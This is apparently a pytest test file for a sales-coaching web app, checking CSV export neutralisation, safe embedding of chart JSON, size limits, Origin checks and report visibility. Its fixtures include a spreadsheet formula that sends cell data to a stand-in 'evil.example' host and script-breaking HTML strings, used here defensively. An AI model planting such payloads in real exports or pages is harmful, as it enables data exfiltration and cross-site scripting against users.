"""Issue #22: exports that cannot attack a spreadsheet, chart data no CRM name can break out
of, sign-in throttling, the password policy, free-text limits and Origin checks."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

from fastapi.testclient import TestClient

from attain.appdb.settings import WebSettings
from attain.web.rendering import vega
from tests.support.web import Demo, Users

HOSTILE_TITLES = ('=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+1", "@SUM(A1)")


def test_action_items_exported_as_csv_come_back_neutralised(
    client: TestClient, users: Users, demo: Demo
) -> None:
    body = {
        "rep_id": demo.own_rep,
        "held_at": "2026-11-10T09:00:00Z",
        "duration_minutes": 30,
        "topics": ["-12.5", "=1+2"],
        "actions": [{"title": title, "owner": "rep"} for title in HOSTILE_TITLES],
    }
    made = client.post("/api/v1/coaching-sessions", json=body, headers=users.api("admin"))
    assert made.status_code == 201, made.text
    export = client.get("/api/v1/action-items?format=csv&per_page=500", headers=users.api("admin"))
    titles = {row["title"] for row in csv.DictReader(io.StringIO(export.text))}
    assert {"'" + title for title in HOSTILE_TITLES} <= titles
    assert not titles & set(HOSTILE_TITLES)
    sessions = client.get(
        f"/api/v1/coaching-sessions?format=csv&rep_id={demo.own_rep}", headers=users.api("admin")
    )
    topics = [json.loads(row["topics"]) for row in csv.DictReader(io.StringIO(sessions.text))]
    # A list cell is JSON text starting with "[", so it is not a formula and stays as it is.
    assert ["-12.5", "=1+2"] in topics


HOSTILE_NAMES = ("A<!--<script>B", "</script><script>alert(1)</script>", "x\u2028y&z>")


def test_chart_json_cannot_end_or_comment_out_its_script_block() -> None:
    spec = {"title": HOSTILE_NAMES[0], "data": {"values": [{"team": n} for n in HOSTILE_NAMES]}}
    html = str(vega(spec, "chart-1")) + str(vega({"title": HOSTILE_NAMES[1]}, "chart-2"))
    blocks = re.findall(r"<script[^>]*>(.*?)</script>", html, flags=re.S)
    assert html.count("<script") == html.count("</script>") == len(blocks) == 2
    assert json.loads(blocks[0]) == spec
    assert json.loads(blocks[1]) == {"title": HOSTILE_NAMES[1]}
    for block in blocks:
        assert not set(block) & {"<", ">", "&", "\u2028", "\u2029"}


def test_every_chart_on_the_team_page_is_one_whole_script_block(
    client: TestClient, users: Users
) -> None:
    page = client.get("/team?as_of=2026-11-13", headers=users.page("admin")).text
    assert page.count("<script") == page.count("</script>")
    for block in re.findall(r'<script type="application/json"[^>]*>(.*?)</script>', page, re.S):
        json.loads(block)


FIVE_MB = "x" * (5 * 1024 * 1024)


def test_a_five_megabyte_topic_is_refused_with_a_clear_message(
    client: TestClient, users: Users, demo: Demo
) -> None:
    body = {
        "rep_id": demo.own_rep,
        "held_at": "2026-11-10T09:00:00Z",
        "duration_minutes": 30,
        "topics": [FIVE_MB],
    }
    answer = client.post("/api/v1/coaching-sessions", json=body, headers=users.api("manager"))
    assert answer.status_code == 422
    assert "topics.0: String should have at most 200 characters" in answer.json()["detail"]
    headers = {**users.page("manager"), "X-CSRF-Token": users.csrf["manager"]}
    for topic, message in ((FIVE_MB, "exceeded maximum size"), ("y" * 201, "at most 200 char")):
        form = {"held_on": "2026-11-12", "minutes": "25", "topics": topic}
        page = client.post(f"/reps/{demo.own_rep}/coaching", data=form, headers=headers)
        assert page.status_code == 400
        assert message in page.text
    sessions = client.get(
        f"/api/v1/coaching-sessions?rep_id={demo.own_rep}&per_page=500", headers=users.api("admin")
    ).json()["items"]
    assert all(len(topic) <= 200 for s in sessions for topic in s["topics"])


def test_a_cookie_authenticated_write_from_another_site_is_refused(
    client: TestClient, users: Users, demo: Demo
) -> None:
    body = {"rep_id": demo.own_rep, "held_at": "2026-11-11", "duration_minutes": 30}
    signed_in = {**users.page("manager"), "X-CSRF-Token": users.csrf["manager"]}
    for evil in (
        {"Origin": "https://evil.example"},
        {"Origin": "null"},
        {"Referer": "https://evil.example/attack.html"},
        {"Origin": "http://testserver.evil.example"},
    ):
        answer = client.post("/api/v1/coaching-sessions", json=body, headers={**signed_in, **evil})
        assert answer.status_code == 403, evil
        assert "another site" in answer.json()["detail"]
    form = {"csrf_token": users.csrf["manager"], "held_on": "2026-11-11", "minutes": "30"}
    page = client.post(
        f"/reps/{demo.own_rep}/coaching",
        data=form,
        headers={**users.page("manager"), "Origin": "https://evil.example"},
    )
    assert page.status_code == 403
    same_site = {**signed_in, "Origin": "http://testserver"}
    assert client.post("/api/v1/coaching-sessions", json=body, headers=same_site).status_code == 201
    # A script with a bearer token is not a browser: no cookie, so no Origin check.
    scripted = {**users.api("manager"), "Origin": "https://evil.example"}
    assert client.post("/api/v1/coaching-sessions", json=body, headers=scripted).status_code == 201


def test_the_rep_digest_follows_the_team_overviews_rule(
    client: TestClient, users: Users, demo: Demo
) -> None:
    """One rule (docs/web.md): a rep sees their own line, never a teammate's bookings,
    target or attainment, on /team and in their digest alike; their rank is their team's."""
    url = "/api/v1/digest?as_of=2026-11-13"
    own = client.get(url, headers=users.api("rep")).json()["leaderboard"]
    assert [row["rep_id"] for row in own] == [demo.own_rep]
    by_manager = client.get(f"{url}&rep={demo.own_rep}", headers=users.api("manager")).json()
    team_board = by_manager["leaderboard"]
    assert len(team_board) > 1 and {row["team_id"] for row in team_board} == {demo.team}
    mine = next(row for row in team_board if row["rep_id"] == demo.own_rep)
    assert own[0] == mine
    overview = client.get("/api/v1/reps?as_of=2026-11-13&per_page=500", headers=users.api("rep"))
    assert {row["rep_id"] for row in overview.json()["items"]} == {demo.own_rep}


def test_every_web_setting_is_documented_with_its_default() -> None:
    doc = (Path(__file__).parents[2] / "docs" / "web.md").read_text()
    defaults = WebSettings()
    for name in WebSettings.model_fields:
        assert f"| `{name}` | {getattr(defaults, name)} |" in doc, name
